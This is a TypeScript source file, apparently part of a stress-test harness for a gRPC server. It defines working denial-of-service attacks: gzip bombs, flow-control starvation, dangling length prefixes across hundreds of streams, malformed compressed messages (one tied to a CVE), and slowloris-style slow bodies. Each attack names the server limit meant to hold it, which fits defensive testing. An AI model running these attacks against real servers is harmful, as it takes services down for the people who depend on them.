/** Messages that cost the server far more than the sender. */
import { randomBytes } from "node:crypto";
import { gzipSync } from "node:zlib";
import { requestBlock } from "../wire/field-block.ts";
import { CANCEL, Flag, type FrameBatch, FrameType } from "../wire/frames.ts";
import { chunk, emptyMessage, gzipBomb, prefixed, unknownFields } from "../wire/messages.ts";
import type { Attack, Peer, Session } from "./attack.ts";

const { END_HEADERS, END_STREAM } = Flag;
const frameBytes = 16_384;
const oneByte = Buffer.alloc(1);
const MiB = 1024 * 1024;
const gzip = ["grpc-encoding", "gzip"] as const;
const bomb = gzipBomb(4 * MiB - 64);
const unknown = unknownFields(4 * MiB - 64);
const smallMessages = Buffer.concat(Array.from({ length: 3000 }, () => emptyMessage));
const valid = gzipSync(chunk(2000));

/** Messages that say they are compressed and are not, or not whole. */
const badlyCompressed: readonly (readonly [block: Buffer, message: Buffer])[] = [
  [requestBlock("Echo", gzip), prefixed(randomBytes(300), true)],
  [requestBlock("Echo", gzip), prefixed(valid.subarray(0, -9), true)],
  [requestBlock("Echo", gzip), prefixed(Buffer.concat([valid, valid.subarray(0, 11)]), true)],
  [requestBlock("Echo", gzip), prefixed(Buffer.concat([valid, randomBytes(40)]), true)],
  [requestBlock("Echo", gzip), prefixed(Buffer.alloc(0), true)],
  [requestBlock("Echo", ["grpc-encoding", "deflate"]), prefixed(valid, true)],
  [requestBlock("Echo", ["grpc-encoding", "identity"]), prefixed(valid, true)],
  [requestBlock("Echo"), prefixed(valid, true)],
  [requestBlock("Echo", ["grpc-encoding", "toString"]), prefixed(valid, true)],
  [
    requestBlock("Echo", gzip),
    Buffer.concat([Buffer.from([2]), prefixed(valid, true).subarray(1)]),
  ],
];

/** Sends a body again and again on streams that stay open, as far as their windows go. */
function unread(peer: Peer, block: Buffer, body: Buffer, streams: number): Session {
  const ids: number[] = [];
  return {
    begin(batch) {
      for (let index = 0; index < streams; index++) {
        const id = peer.openStream();
        ids.push(id);
        batch.headers(id, block, END_HEADERS);
      }
    },
    write(batch) {
      for (const id of ids) {
        if (batch.size > 64 * 1024) return;
        if (peer.takeWindow(id, body.length)) batch.data(id, body);
      }
    },
  };
}

/** Sends one body on each stream, whole, as far as the windows go. */
function calls(peer: Peer, block: Buffer, body: Buffer): Session {
  let id = 0;
  let at = body.length;
  const next = (batch: FrameBatch) => {
    if (at >= body.length) {
      peer.closeStream(id);
      id = peer.openStream();
      at = 0;
      batch.headers(id, block, END_HEADERS);
    }
    const piece = body.subarray(at, at + frameBytes);
    if (!peer.takeWindow(id, piece.length)) return false;
    at += piece.length;
    batch.data(id, piece, at === body.length ? END_STREAM : 0);
    return true;
  };
  return {
    write(batch) {
      while (batch.size < 64 * 1024 && next(batch));
    },
  };
}

/** Begins 200 messages, and sends the same piece on each again and again. */
function slowly(peer: Peer, piece: Uint8Array): Session {
  const ids: number[] = [];
  const prefix = prefixed(Buffer.alloc(0));
  prefix.writeUInt32BE(1000, 1);
  return {
    begin(batch) {
      for (let index = 0; index < 200; index++) {
        const id = peer.openStream();
        ids.push(id);
        peer.takeWindow(id, prefix.length);
        batch.headers(id, requestBlock("Echo"), END_HEADERS);
        batch.data(id, prefix);
      }
    },
    write(batch) {
      if (piece.length === 0) return;
      for (const id of ids) {
        if (peer.takeWindow(id, piece.length)) batch.data(id, piece);
      }
    },
  };
}

export const messages: readonly Attack[] = [
  {
    name: "gzip-bomb",
    sends: "calls of 4 KB of gzip that inflate to 4 MiB",
    create: (peer) => calls(peer, requestBlock("Collect", gzip), bomb),
  },
  {
    name: "gzip-unread",
    sends: "4 KB of gzip that inflate to 4 MiB, on 10 bidi calls that nobody reads",
    heldBy: "flow-control windows",
    create: (peer) => unread(peer, requestBlock("Ignore", gzip), bomb, 10),
  },
  {
    name: "small-messages-unread",
    sends: "messages of 5 bytes on 10 bidi calls that nobody reads",
    heldBy: "flow-control windows",
    create: (peer) => unread(peer, requestBlock("Ignore"), smallMessages, 10),
  },
  {
    name: "length-prefix",
    sends: "the prefix of a message of 4 MiB and nothing behind it, on 900 streams at a time",
    heldBy: "limits.maxConcurrentStreams, turnShare",
    create: (peer) => {
      const block = requestBlock("Echo");
      const prefix = prefixed(Buffer.alloc(0));
      prefix.writeUInt32BE(4 * MiB, 1);
      const open: number[] = [];
      return {
        write(batch) {
          while (open.length > 850) {
            const oldest = open.shift() ?? 0;
            peer.closeStream(oldest);
            batch.word(FrameType.RST_STREAM, oldest, CANCEL);
          }
          for (let index = 0; index < 50; index++) {
            const id = peer.openStream();
            if (!peer.takeWindow(id, prefix.length)) return;
            open.push(id);
            batch.headers(id, block, END_HEADERS);
            batch.data(id, prefix);
          }
        },
      };
    },
  },
  {
    name: "unknown-fields",
    sends: "calls with 4 MiB of unknown fields",
    create: (peer) => calls(peer, requestBlock("Collect"), unknown),
  },
  {
    name: "malformed-compressed",
    sends: "messages whose compression is wrong in 10 ways",
    known: "CVE-2026-48069",
    heldBy: "turnShare",
    create: (peer) => {
      let at = 0;
      return {
        write(batch) {
          for (let index = 0; index < 50; index++) {
            const [block, message] = badlyCompressed[at++ % badlyCompressed.length] ?? [];
            if (block === undefined || message === undefined) return;
            const id = peer.openStream();
            if (!peer.takeWindow(id, message.length)) return;
            peer.closeStream(id);
            batch.headers(id, block, END_HEADERS);
            batch.data(id, message, END_STREAM);
          }
        },
      };
    },
  },
  {
    name: "slow-body",
    sends: "200 calls whose messages come by one byte in 100 ms",
    pauseMs: 100,
    heldBy: "limits.maxConcurrentStreams, limits.maxHeldBytes",
    create: (peer) => slowly(peer, oneByte),
  },
  {
    name: "stalled-body",
    sends: "200 calls whose messages begin and do not go on",
    pauseMs: 100,
    timeouts: { bodyTimeoutMs: 1000 },
    create: (peer) => slowly(peer, new Uint8Array(0)),
  },
];
